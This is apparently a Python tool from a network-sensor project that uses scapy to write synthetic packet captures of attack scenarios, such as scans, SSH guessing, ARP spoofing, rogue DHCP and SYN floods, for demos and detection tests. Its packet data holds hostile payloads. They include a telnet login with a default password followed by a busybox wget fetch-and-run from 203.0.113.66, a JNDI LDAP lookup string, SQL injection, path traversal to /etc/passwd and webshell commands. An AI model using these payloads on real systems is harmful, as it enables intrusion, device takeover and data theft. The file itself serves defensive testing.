# SPDX-License-Identifier: GPL-2.0-only
# pyright: reportUnknownMemberType=false, reportUnknownVariableType=false, reportUnknownArgumentType=false
# (scapy carries no types)
"""How does an attack look on the wire? Crafts captures by scenario, for the demo and for tests.

`python -m sensors.network.scapy_craft SCENARIO OUT.pcap [--attacker IP] [--victim IP] [--start TIME]
[--seed N] [--count N]`. The same arguments give the same bytes. Every packet is made up; checksums are right.
"""

from __future__ import annotations

import argparse
import random
import sys
from collections.abc import Callable
from dataclasses import dataclass, field
from datetime import datetime
from ipaddress import ip_address, ip_network
from pathlib import Path
from typing import Any

from scapy.layers.dhcp import BOOTP, DHCP
from scapy.layers.dns import DNS, DNSQR, DNSRR
from scapy.layers.inet import ICMP, IP, TCP, UDP
from scapy.layers.l2 import ARP, Ether
from scapy.packet import Packet, Raw
from scapy.utils import wrpcap

START = "2026-11-22T01:00:00+00:00"
GATEWAY_MAC = "02:00:00:00:00:fe"
RESOLVER = "10.20.0.53"
NOWHERE = str(ip_address(0))


@dataclass(kw_only=True)
class Scene:
    """What a scenario may draw on; collects packets with their times (seconds since 1970)."""

    attacker: str
    victim: str
    start: float
    random: random.Random
    count: int
    packets: list[tuple[float, Packet]] = field(default_factory=list[tuple[float, Packet]])

    def add(self, at: float, packet: Packet) -> None:
        """Put a packet at so many seconds after the start."""
        self.packets.append((self.start + at, packet))

    def port(self) -> int:
        """A client's port."""
        return self.random.randrange(32_768, 61_000)


def mac(address: str) -> str:
    """A made-up hardware address that belongs to an address."""
    return "02:00:" + ":".join(f"{byte:02x}" for byte in ip_address(address).packed[-4:])


def frame(source: str, target: str) -> Packet:
    """Ethernet and IP between two addresses."""
    return Ether(src=mac(source), dst=mac(target)) / IP(src=source, dst=target, ttl=64)


def talk(
    scene: Scene,
    at: float,
    ends: tuple[str, str, int],
    turns: list[tuple[str, bytes]],
    *,
    sport: int = 0,
    gap: float = 0.01,
) -> float:
    """A whole TCP conversation; turns are (`>` or `<`, bytes). Gives the time it ends."""
    source, target, dport = ends
    sport = sport or scene.port()
    seq = {">": scene.random.randrange(1 << 31), "<": scene.random.randrange(1 << 31)}

    def send(way: str, flags: str, load: bytes = b"") -> None:
        nonlocal at
        here, there = (source, target) if way == ">" else (target, source)
        ports = (sport, dport) if way == ">" else (dport, sport)
        other = seq["<" if way == ">" else ">"] if flags != "S" else 0
        segment = TCP(sport=ports[0], dport=ports[1], seq=seq[way], ack=other, flags=flags, window=64_240)
        scene.add(at, frame(here, there) / segment / Raw(load) if load else frame(here, there) / segment)
        seq[way] = (seq[way] + len(load) + ("S" in flags) + ("F" in flags)) % (1 << 32)
        at += gap

    send(">", "S")
    send("<", "SA")
    send(">", "A")
    for way, load in turns:
        for cut in range(0, len(load), 1400):
            send(way, "PA", load[cut : cut + 1400])
    send(">", "FA")
    send("<", "FA")
    send(">", "A")
    return at


def http(
    host: str,
    line: str,
    *,
    agent: str = "Mozilla/5.0 (Windows NT 10.0; Win64; x64) Firefox/140.0",
    body: bytes = b"",
    status: str = "200 OK",
    answer: bytes = b"<html><body>OK</body></html>",
) -> list[tuple[str, bytes]]:
    """One request with its answer."""
    head = f"{line} HTTP/1.1\r\nHost: {host}\r\nUser-Agent: {agent}\r\nAccept: */*\r\n"
    if body:
        head += f"Content-Type: application/x-www-form-urlencoded\r\nContent-Length: {len(body)}\r\n"
    reply = f"HTTP/1.1 {status}\r\nServer: nginx\r\nContent-Type: text/html; charset=utf-8\r\n"
    reply += f"Content-Length: {len(answer)}\r\n"
    return [(">", head.encode() + b"\r\n" + body), ("<", reply.encode() + b"\r\n" + answer)]


def lookup(
    scene: Scene, at: float, client: str, name: str, *, kind: str = "A", answer: Any = None, code: int = 0
) -> None:
    """A DNS question and its answer."""
    number, port = scene.random.randrange(1 << 16), scene.port()
    asked = DNSQR(qname=name, qtype=kind)
    question = DNS(id=number, rd=1, qd=[asked])
    scene.add(at, frame(client, RESOLVER) / UDP(sport=port, dport=53) / question)
    found = [DNSRR(rrname=name, type=kind, ttl=300, rdata=answer)] if answer is not None else []
    reply = DNS(id=number, qr=1, rd=1, ra=1, rcode=code, qd=[asked], an=found)
    scene.add(at + 0.012, frame(RESOLVER, client) / UDP(sport=53, dport=port) / reply)


def port_scan(scene: Scene) -> None:
    """One host asks many ports of another (SYN); a few are open."""
    ports = scene.random.sample(range(1, 10_000), max(scene.count or 400, 1))
    for turn, port in enumerate(ports):
        sport = scene.port()
        at = turn * 0.01
        scene.add(at, frame(scene.attacker, scene.victim) / TCP(sport=sport, dport=port, flags="S", seq=turn))
        flags = "SA" if turn % 90 == 0 else "RA"
        back = TCP(sport=port, dport=sport, flags=flags, seq=9, ack=turn + 1)
        scene.add(at + 0.002, frame(scene.victim, scene.attacker) / back)
        if flags == "SA":
            scene.add(
                at + 0.004,
                frame(scene.attacker, scene.victim) / TCP(sport=sport, dport=port, flags="R", seq=turn + 1),
            )


def horizontal_scan(scene: Scene) -> None:
    """One host asks the same port of a whole network."""
    hosts = list(ip_network(f"{scene.victim}/24", strict=False).hosts())[: scene.count or 200]
    for turn, host in enumerate(hosts):
        segment = TCP(sport=scene.port(), dport=445, flags="S", seq=turn)
        scene.add(turn * 0.05, frame(scene.attacker, str(host)) / segment)


def _ssh_lists(words: str) -> bytes:
    names = words.encode()
    return len(names).to_bytes(4, "big") + names


def _ssh_packet(scene: Scene, kind: int, body: bytes) -> bytes:
    padding = 8 + (-(len(body) + 2 + 4 + 8)) % 8
    load = bytes((padding, kind)) + body + scene.random.randbytes(padding)
    return len(load).to_bytes(4, "big") + load


def ssh_guessing(scene: Scene) -> None:
    """Many SSH connections, each with a few refused passwords."""
    lists = (
        "curve25519-sha256", "ssh-ed25519", "aes128-ctr,aes256-ctr", "aes128-ctr,aes256-ctr", "hmac-sha2-256",
        "hmac-sha2-256", "none", "none", "", "",
    )  # fmt: skip
    at = 0.0
    for _ in range(scene.count or 20):
        offer = scene.random.randbytes(16) + b"".join(map(_ssh_lists, lists)) + bytes(5)
        turns = [
            (">", b"SSH-2.0-libssh_0.11.1\r\n"),
            ("<", b"SSH-2.0-OpenSSH_9.2p1 Debian-2\r\n"),
            (">", _ssh_packet(scene, 20, offer)),
            ("<", _ssh_packet(scene, 20, offer)),
            (">", _ssh_packet(scene, 30, scene.random.randbytes(36))),
            ("<", _ssh_packet(scene, 31, scene.random.randbytes(180)) + _ssh_packet(scene, 21, b"")),
            (">", _ssh_packet(scene, 21, b"")),
            (">", scene.random.randbytes(52)),
            ("<", scene.random.randbytes(52)),
        ]
        for _ in range(3):
            turns += [(">", scene.random.randbytes(148)), ("<", scene.random.randbytes(84))]
        at = talk(scene, at, (scene.attacker, scene.victim, 22), turns) + 0.6


def dns_tunnel(scene: Scene) -> None:
    """A host carries data out in the names it asks for."""
    letters = "abcdefghijklmnopqrstuvwxyz234567"
    for turn in range(scene.count or 200):
        labels = ["".join(scene.random.choices(letters, k=56)) for _ in range(3)]
        name = ".".join([*labels, "t.update-cdn.example"])
        value = "".join(scene.random.choices(letters, k=180))
        lookup(scene, turn * 0.25, scene.attacker, name, kind="TXT", answer=[value.encode()])


def camera_bot(scene: Scene) -> None:
    """A camera is taken over by its default password, then scans for others and calls home."""
    outside, camera = scene.attacker, scene.victim
    dialogue = [
        ("<", b"\xff\xfd\x01\r\nDVR login: "), (">", b"root\r\n"), ("<", b"Password: "), (">", b"xc3511\r\n"),
        ("<", b"\r\nBusyBox v1.12.1 built-in shell\r\n# "), (">", b"enable\r\n"), ("<", b"# "),
        (">", b"/bin/busybox wget http://203.0.113.66/bins/mips -O /tmp/.x; chmod 777 /tmp/.x; /tmp/.x\r\n"),
        ("<", b"# "),
    ]  # fmt: skip
    at = talk(scene, 0, (outside, camera, 23), dialogue, gap=0.2)
    program = b"\x7fELF\x01\x02\x01" + scene.random.randbytes(3000)
    at = talk(
        scene,
        at + 1,
        (camera, "203.0.113.66", 80),
        http("203.0.113.66", "GET /bins/mips", agent="Wget", answer=program),
    )
    for turn in range(scene.count or 300):
        target = str(ip_address(scene.random.randrange(0x0B000001, 0xBE000000)))
        port = 2323 if turn % 10 == 9 else 23
        segment = TCP(sport=scene.port(), dport=port, flags="S", seq=int(ip_address(target)))
        scene.add(at + 2 + turn * 0.05, frame(camera, target) / segment)
    for turn in range(12):
        talk(
            scene, at + 3 + turn * 10, (camera, "203.0.113.66", 48_101), [(">", b"\0\0\0\1"), ("<", b"\0\0")]
        )


def arp_spoof(scene: Scene) -> None:
    """A host says again and again that it is the gateway, to the victim, and the victim to the gateway."""
    gateway = str(next(ip_network(f"{scene.victim}/24", strict=False).hosts()))
    victim, own = mac(scene.victim), mac(scene.attacker)

    def say(at: float, op: int, sender: tuple[str, str], target: tuple[str, str], to: str) -> None:
        body = ARP(op=op, hwsrc=sender[1], psrc=sender[0], hwdst=target[1], pdst=target[0])
        scene.add(at, Ether(src=sender[1], dst=to) / body)

    nobody, everybody = "00:00:00:00:00:00", "ff:ff:ff:ff:ff:ff"
    say(0, 1, (scene.victim, victim), (gateway, nobody), everybody)
    say(0.001, 2, (gateway, GATEWAY_MAC), (scene.victim, victim), victim)
    say(1, 1, (scene.attacker, own), (gateway, nobody), everybody)
    say(1.001, 2, (gateway, GATEWAY_MAC), (scene.attacker, own), own)
    for turn in range(scene.count or 30):
        at = 5 + turn * 2
        say(at, 2, (gateway, own), (scene.victim, victim), victim)
        say(at + 0.01, 2, (scene.victim, own), (gateway, GATEWAY_MAC), GATEWAY_MAC)
        if turn % 5 == 4:
            say(at + 0.5, 2, (gateway, GATEWAY_MAC), (scene.victim, victim), victim)


def _lease(scene: Scene, at: float, client: str, offered: str, server: tuple[str, str], router: str) -> None:
    """Discover, offer, request and ack of one client."""
    number = scene.random.randrange(1 << 32)
    raw = bytes.fromhex(client.replace(":", ""))
    for step, (kind, extra) in enumerate(
        (
            ("discover", []),
            ("offer", []),
            ("request", [("requested_addr", offered), ("server_id", server[0])]),
            ("ack", []),
        )
    ):
        if kind in {"discover", "request"}:
            outside = (
                Ether(src=client, dst="ff:ff:ff:ff:ff:ff")
                / IP(src=NOWHERE, dst="255.255.255.255")
                / UDP(sport=68, dport=67)
            )
            inside = BOOTP(chaddr=raw, xid=number) / DHCP(options=[("message-type", kind), *extra, "end"])
        else:
            outside = (
                Ether(src=server[1], dst=client) / IP(src=server[0], dst=offered) / UDP(sport=67, dport=68)
            )
            options = [
                ("message-type", kind), ("server_id", server[0]), ("router", router), ("name_server", router),
                ("lease_time", 3600), "end",
            ]  # fmt: skip
            inside = BOOTP(op=2, yiaddr=offered, siaddr=server[0], chaddr=raw, xid=number) / DHCP(
                options=options
            )
        scene.add(at + step * 0.02, outside / inside)


def rogue_dhcp(scene: Scene) -> None:
    """A second DHCP server begins to answer and names itself as router and resolver."""
    net = scene.victim.rsplit(".", 1)[0]
    good = (f"{net}.2", mac(f"{net}.2"))
    bad = (scene.attacker, mac(scene.attacker))
    for turn in range(scene.count or 12):
        client = f"02:00:00:00:01:{turn:02x}"
        is_bad = turn >= 5 and turn % 2 == 1
        server, router = (bad, scene.attacker) if is_bad else (good, f"{net}.1")
        _lease(scene, turn * 20, client, f"{net}.{100 + turn}", server, router)


def dhcp_starvation(scene: Scene) -> None:
    """Somebody asks for address after address under made-up hardware addresses."""
    for turn in range(scene.count or 300):
        raw = bytes((2,)) + scene.random.randbytes(5)
        outside = Ether(src=raw.hex(":"), dst="ff:ff:ff:ff:ff:ff") / IP(src=NOWHERE, dst="255.255.255.255")
        inside = BOOTP(chaddr=raw, xid=scene.random.randrange(1 << 32)) / DHCP(
            options=[("message-type", "discover"), "end"]
        )
        scene.add(turn * 0.02, outside / UDP(sport=68, dport=67) / inside)


def syn_flood(scene: Scene) -> None:
    """A web server is buried under half-open connections from made-up addresses."""
    for turn in range(scene.count or 2000):
        source = str(ip_address(scene.random.randrange(0x0B000000, 0xDF000000)))
        segment = TCP(sport=scene.port(), dport=80, flags="S", seq=scene.random.randrange(1 << 32))
        scene.add(turn * 0.002, frame(source, scene.victim) / segment)


def http_attack(scene: Scene) -> None:
    """SQL injection, path traversal, an upload and the use of a webshell on one portal."""
    host, ends = "portal.example", (scene.attacker, scene.victim, 80)
    steps = [
        http(host, "GET /tin-tuc?id=1%27%20OR%20%271%27=%271"),
        http(host, "GET /tin-tuc?id=-1%20UNION%20SELECT%201,user(),database()--%20-"),
        http(host, "GET /tin-tuc?id=1%20AND%20SLEEP(5)"),
        http(
            host,
            "GET /download?file=..%2f..%2f..%2f..%2fetc%2fpasswd",
            answer=b"root:x:0:0:root:/root:/bin/bash\n",
        ),
        http(host, "GET /?q=${jndi:ldap://203.0.113.66:1389/a}"),
        http(host, "POST /uploads/anh.php", body=b"cmd=whoami", answer=b"www-data\n"),
        http(
            host,
            "POST /uploads/anh.php",
            body=b"cmd=cat+/etc/passwd",
            answer=b"root:x:0:0:root:/root:/bin/bash\n",
        ),
    ]
    at = 0.0
    for turns in steps:
        at = talk(scene, at, ends, turns) + 2.0


def browsing(scene: Scene) -> None:
    """A small office on an ordinary morning: names, pages, a few typos, nothing else."""
    names = ("dichvucong.example", "baomoi.example", "thoitiet.example", "mail.example", "hanoi.example")
    office = scene.victim.rsplit(".", 1)[0]
    gateway = f"{office}.1"
    at = 0.0
    for turn in range(scene.count or 120):
        client = f"{office}.{20 + turn % 12}"
        name = f"www.{scene.random.choice(names)}"
        server = f"198.51.100.{10 + names.index(name[4:])}"
        if turn < 12:
            ask = ARP(op=1, hwsrc=mac(client), psrc=client, pdst=gateway)
            scene.add(at, Ether(src=mac(client), dst="ff:ff:ff:ff:ff:ff") / ask)
            reply = ARP(op=2, hwsrc=GATEWAY_MAC, psrc=gateway, hwdst=mac(client), pdst=client)
            scene.add(at + 0.001, Ether(src=GATEWAY_MAC, dst=mac(client)) / reply)
        if turn % 25 == 7:
            lookup(scene, at, client, f"www.{name[4:-8]}.exampl", code=3)
        lookup(scene, at + 0.1, client, name, answer=server)
        page = (
            b"<html><title>Tin</title><body>"
            + b"<p>noi dung</p>" * scene.random.randrange(5, 80)
            + b"</body></html>"
        )
        path = scene.random.choice(
            ("/", "/tin-tuc?id=12", "/lien-he", "/tim-kiem?q=union+select+committee", "/anh/a.jpg")
        )
        talk(scene, at + 0.2, (client, server, 80), http(name, f"GET {path}", answer=page))
        if turn % 10 == 3:
            scene.add(at + 0.5, frame(client, gateway) / ICMP(type=8, id=turn, seq=1) / Raw(bytes(range(56))))
            scene.add(
                at + 0.502, frame(gateway, client) / ICMP(type=0, id=turn, seq=1) / Raw(bytes(range(56)))
            )
        at += 1.0 + scene.random.random() * 4


SCENARIOS: dict[str, Callable[[Scene], None]] = {
    "port_scan": port_scan,
    "horizontal_scan": horizontal_scan,
    "ssh_guessing": ssh_guessing,
    "dns_tunnel": dns_tunnel,
    "camera_bot": camera_bot,
    "arp_spoof": arp_spoof,
    "rogue_dhcp": rogue_dhcp,
    "dhcp_starvation": dhcp_starvation,
    "syn_flood": syn_flood,
    "http_attack": http_attack,
    "browsing": browsing,
}
_INSIDE = {"dns_tunnel", "arp_spoof", "rogue_dhcp"}
"""Scenarios whose attacker sits in the victim's network."""


def craft(
    scenario: str,
    out: Path,
    *,
    attacker: str = "",
    victim: str = "10.20.0.10",
    start: str = START,
    seed: int = 1,
    count: int = 0,
) -> int:
    """Write a capture; gives the number of packets. An empty attacker is chosen to fit the scenario."""
    attacker = attacker or ("10.20.0.66" if scenario in _INSIDE else "203.0.113.7")
    moment = datetime.fromisoformat(start).timestamp()
    scene = Scene(attacker=attacker, victim=victim, start=moment, random=random.Random(seed), count=count)  # noqa: S311 - repeatable on purpose
    SCENARIOS[scenario](scene)
    scene.packets.sort(key=lambda timed: timed[0])
    for at, packet in scene.packets:
        packet.time = at
    wrpcap(str(out), [packet for _, packet in scene.packets])
    return len(scene.packets)


def main(arguments: list[str]) -> int:
    """The command."""
    parser = argparse.ArgumentParser(
        prog="scapy_craft", description="Craft a capture of an attack, or of none."
    )
    parser.add_argument("scenario", choices=sorted(SCENARIOS))
    parser.add_argument("out", type=Path)
    parser.add_argument("--attacker", default="")
    parser.add_argument("--victim", default="10.20.0.10")
    parser.add_argument("--start", default=START, help="ISO 8601 with offset")
    parser.add_argument("--seed", type=int, default=1)
    parser.add_argument("--count", type=int, default=0, help="how many steps; 0: as the scenario likes")
    given = parser.parse_args(arguments)
    packets = craft(
        given.scenario,
        given.out,
        attacker=given.attacker,
        victim=given.victim,
        start=given.start,
        seed=given.seed,
        count=given.count,
    )
    sys.stdout.write(f"{given.out}: {packets} packets\n")
    return 0


if __name__ == "__main__":
    sys.exit(main(sys.argv[1:]))
